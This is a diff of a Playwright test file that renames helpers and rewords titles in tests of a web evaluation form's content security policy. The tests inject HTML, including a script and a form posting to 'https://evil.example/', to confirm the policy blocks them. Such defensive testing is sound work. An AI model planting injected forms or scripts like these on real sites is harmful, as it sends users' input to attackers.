@@ -10,15 +10,15 @@ const paths = locales.flatMap((locale) => indexedPages.map((href) => getPathname
 const evaluations = ["/en/evaluation", "/es/evaluacion"];
 
 /** Collects the errors that the browser logs from now on. */
-function listen(page: Page): string[] {
+function collectErrors(page: Page): string[] {
   const errors: string[] = [];
   page.on("console", (message) => message.type() === "error" && errors.push(message.text()));
   page.on("pageerror", (error) => errors.push(error.message));
   return errors;
 }
 
-/** Serves the page with its own headers and `html` at the end of its body. */
-async function inject(page: Page, path: string, html: string): Promise<void> {
+/** Serves the page with its original headers and with `html` at the end of its body. */
+async function injectHtml(page: Page, path: string, html: string): Promise<void> {
   await page.route(`${url}${path}`, async (route) => {
     const response = await route.fetch();
     const body = (await response.text()).replace("</body>", `${html}</body>`);
@@ -26,8 +26,8 @@ async function inject(page: Page, path: string, html: string): Promise<void> {
   });
 }
 
-/** Expects the scripted form: one question, and a tap leads to the next one. */
-async function expectToWork(page: Page): Promise<void> {
+/** Expects a form that its script controls: it shows one question, and a tap leads to the next. */
+async function expectInteractive(page: Page): Promise<void> {
   const progress = (number: number) =>
     page.locator("legend:visible", { hasText: new RegExp(`^\\D+ ${number} \\D+ 9`) });
   await expect(progress(1)).toBeVisible();
@@ -37,8 +37,10 @@ async function expectToWork(page: Page): Promise<void> {
 }
 
 for (const path of paths) {
-  test(`runs ${path} under a policy without unsafe sources, without browser errors`, async ({ page }) => {
-    const errors = listen(page);
+  test(`runs ${path} under a content security policy without unsafe sources, and without browser errors`, async ({
+    page,
+  }) => {
+    const errors = collectErrors(page);
     const response = await page.goto(`${url}${path}`, { waitUntil: "networkidle" });
     const headers = response?.headers() ?? {};
     const policy = headers["content-security-policy"] ?? "";
@@ -73,15 +75,15 @@ for (const path of paths) {
 }
 
 for (const path of evaluations) {
-  test(`makes ${path} interactive under its policy`, async ({ page }) => {
+  test(`makes ${path} interactive under its content security policy`, async ({ page }) => {
     await page.goto(`${url}${path}`);
-    await expectToWork(page);
+    await expectInteractive(page);
   });
 }
 
 test("does not run injected code, and keeps the page working", async ({ page }) => {
   const mark = "document.documentElement.dataset.injected = 'ran'";
-  await inject(
+  await injectHtml(
     page,
     "/en/evaluation",
     [
@@ -101,13 +103,13 @@ test("does not run injected code, and keeps the page working", async ({ page }) 
   page.on("console", (message) => message.type() === "error" && refused.push(message.text()));
   await page.goto(`${url}/en/evaluation`);
   await page.evaluate(() => document.querySelector<HTMLElement>("#injected")?.click());
-  await expectToWork(page);
+  await expectInteractive(page);
   expect(await page.evaluate(() => document.documentElement.dataset.injected)).toBeUndefined();
   expect(refused.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThanOrEqual(8);
 });
 
-test("blocks an injected form from sending elsewhere, and ignores an injected style", async ({ page }) => {
-  await inject(
+test("blocks an injected form that sends to another site, and ignores an injected style", async ({ page }) => {
+  await injectHtml(
     page,
     "/en/evaluation",
     '<style>body{rotate:1deg}</style><form id="injected" action="https://evil.example/"><input name="a"></form>',
@@ -115,7 +117,7 @@ test("blocks an injected form from sending elsewhere, and ignores an injected st
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url()));
   await page.goto(`${url}/en/evaluation`);
-  const errors = listen(page);
+  const errors = collectErrors(page);
   await page.evaluate(() => document.querySelector<HTMLFormElement>("form#injected")?.submit());
   await expect.poll(() => errors.join()).toContain("form-action");
   expect(await page.evaluate(() => getComputedStyle(document.body).rotate)).toBe("none");
@@ -124,7 +126,7 @@ test("blocks an injected form from sending elsewhere, and ignores an injected st
 
 test("never evaluates text as code", async ({ page }) => {
   await page.goto(`${url}/en/evaluation`);
-  // In a later task, because the browser's debugger may evaluate code and must not be the caller.
+  // Evaluate in a later task, because the browser's debugger, which may evaluate code, must not be the caller.
   const outcome = await page.evaluate(
     () =>
       new Promise<string>((resolve) => {
@@ -140,7 +142,7 @@ test("never evaluates text as code", async ({ page }) => {
   expect(outcome).toBe("EvalError");
 });
 
-test("protects other responses too, and sends only the needed headers with those of the API", async ({
+test("sends security headers with files and redirects, and no page headers with API responses", async ({
   request,
   client,
 }) => {
